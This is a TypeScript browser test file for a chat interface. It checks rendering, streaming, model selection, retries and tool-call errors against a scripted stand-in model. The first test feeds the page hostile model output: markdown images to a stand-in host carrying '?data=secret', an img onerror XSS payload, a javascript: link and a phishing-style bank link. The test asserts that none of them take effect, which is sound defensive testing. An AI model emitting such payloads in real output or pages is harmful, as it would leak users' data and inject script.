import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { axeViolations } from '../support/browser/axe.ts';
import { ChatPage } from '../support/browser/chat-page.ts';
import { chromiumMissing, Pages, whySkipped } from '../support/browser/page.ts';
import { callsTools, fails, ScriptedModel, says, saysSlowly } from '../support/emulators/scripted-model.ts';
import { startSteward, type TestSteward } from '../support/steward.ts';

const EVIL = 'http://evil.example';

describe.skipIf(chromiumMissing)(`what models say on the page${whySkipped}`, () => {
  let model: ScriptedModel;
  let steward: TestSteward;
  let pages: Pages;

  beforeAll(async () => {
    model = await ScriptedModel.start();
    const [one] = JSON.parse(model.models());
    steward = await startSteward({ MODELS: JSON.stringify([one, { ...one, name: 'other', model: 'test-2' }]) });
    pages = await Pages.launch(steward);
  });
  afterEach(() => pages.closeAll());
  afterAll(async () => {
    await pages?.browser.close();
    await steward?.stop();
    await model?.stop();
  });

  const open = (user: string, options = {}) => {
    model.reset();
    return ChatPage.open(steward, pages, user, { account: false, ...options });
  };

  it('loads no image, makes no element of markup, and shows the host of each link', async () => {
    const chat = await open('images');
    const texts = [
      `![private](${EVIL}/x.png?data=secret) ![ref][r]\n\n[r]: ${EVIL}/r.png\n\n<img src="${EVIL}/y.png" onerror="alert(1)">\n\n`,
      `[Your bank](${EVIL}/login) [odd](javascript:alert(1)) ${EVIL}/plain\n\n- **bold** and \`code\`\n\n\`\`\`\n<b>fenced</b>\n\`\`\``,
    ];
    model.script(says(...texts));
    await chat.ask('Show me');
    await chat.log.getByText('<b>fenced</b>').waitFor();
    await chat.log.getByText(`<img src="${EVIL}/y.png" onerror="alert(1)">`).waitFor();
    expect(await chat.page.locator('.chat img').count()).toBe(0);
    const links = await chat.log.locator('.link').allTextContents();
    // Addresses in other markup are links, too, with their host.
    expect(links).toEqual(['private (evil.example)', `${EVIL}/r.png`, `${EVIL}/y.png`, 'Your bank (evil.example)', `${EVIL}/plain`]);
    for (const link of await chat.log.getByRole('link').all()) expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(await chat.log.locator('strong').textContent()).toBe('bold');
    expect(chat.foreign).toEqual([]);
    expect(await axeViolations(chat.page)).toEqual([]);
    expect(pages.problems).toEqual([]);
  });

  it('appears while it is written', async () => {
    const chat = await open('streaming');
    const { promise, resolve } = Promise.withResolvers<void>();
    model.script(saysSlowly('The first half, ', promise, 'the second half.'));
    await chat.say('Tell me');
    await chat.log.getByText('The first half,').waitFor();
    await chat.page.getByRole('button', { name: 'Stop', exact: true }).waitFor();
    resolve();
    await chat.log.getByText('The first half, the second half.').waitFor();
    await chat.ended();
  });

  it('is not awaited from a model before the models are known', async () => {
    const chat = await open('waiting');
    const { promise, resolve } = Promise.withResolvers<void>();
    await chat.page.route('**/models', async (route) => {
      await promise;
      await route.continue();
    });
    await chat.page.reload();
    await chat.log.getByText('Loading …').waitFor();
    expect(await chat.page.getByText('No model is configured').count()).toBe(0);
    resolve();
    await chat.log.getByText('Ask in your own words.').waitFor();
  });

  it('goes to the model that was selected', async () => {
    const chat = await open('selecting');
    expect(await chat.page.getByText('This is a stand-in').count()).toBe(0);
    expect(await chat.page.getByText('See an attack fail').count()).toBe(0);
    await chat.page.getByLabel('Model').selectOption('other');
    await chat.ask('Hello');
    expect(model.requests.at(-1)?.model).toBe('test-2');
    await chat.log.getByText(/^other · /).waitFor();
  });

  it('is shown as broken off, with a code for who runs the service, and is asked for again without a double', async () => {
    const chat = await open('failing');
    model.always = fails(400);
    await chat.say('Hello');
    await chat.log.getByText('Failed').waitFor();
    await chat.log.getByText('The model’s answer broke off.').waitFor();
    expect(await chat.log.locator('.message-end code').isVisible()).toBe(false);
    expect(await chat.log.locator('.message-end code').textContent()).toBe('provider_error');
    expect(await axeViolations(chat.page)).toEqual([]);
    model.reset();
    await chat.log.getByRole('button', { name: 'Try again' }).press('Enter');
    await chat.log.getByText('Done.').waitFor();
    await chat.ended();
    expect(await chat.log.locator('.chat-message').count()).toBe(2);
    await chat.page.reload();
    await chat.log.getByText('Done.').waitFor();
    expect(await chat.log.locator('.chat-message').count()).toBe(2);
    await chat.ask('And now?');
    await chat.log.getByText('Done.').nth(1).waitFor();
    expect(await chat.page.getByRole('button', { name: 'Try again' }).count()).toBe(0);
  });

  it('shows calls of unknown tools and with wrong arguments, with the reason', async () => {
    const chat = await open('mistaken', { account: true });
    const wrong = [
      { name: 'mail_search', input: { max: 'many' } },
      { name: 'teleport_user', input: {} },
    ];
    model.script(callsTools(wrong), says('I could not.'));
    await chat.ask('Search');
    const steps = chat.log.locator('.tool-step');
    for (const [index, reason] of ['max', 'teleport_user'].entries()) {
      await steps.nth(index).getByText('failed').waitFor();
      await steps.nth(index).locator('summary').first().click();
      expect(await steps.nth(index).locator('.step-error').textContent()).toContain(reason);
    }
  });
});

describe.skipIf(chromiumMissing)(`conversations without a model${whySkipped}`, () => {
  it('explain how to configure one', async () => {
    const steward = await startSteward({ MODELS: '[]' });
    const pages = await Pages.launch(steward);
    try {
      const chat = await ChatPage.open(steward, pages, 'nobody', { account: false });
      await chat.page.getByText('No model is configured').waitFor();
      await chat.page.getByText('docs/assistant.md').waitFor();
      expect(await chat.text.isDisabled()).toBe(true);
      expect(await axeViolations(chat.page)).toEqual([]);
      expect(pages.problems).toEqual([]);
    } finally {
      await pages.browser.close();
      await steward.stop();
    }
  });
});
